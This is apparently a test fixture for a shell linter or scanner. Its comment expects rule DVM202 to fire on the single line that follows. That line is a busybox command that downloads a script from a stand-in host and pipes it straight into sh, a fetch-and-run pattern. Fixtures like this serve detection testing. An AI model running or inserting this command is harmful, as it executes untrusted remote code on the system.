# expect: DVM202
busybox sh -c "$(busybox wget -O- https://x.example.org/a)"
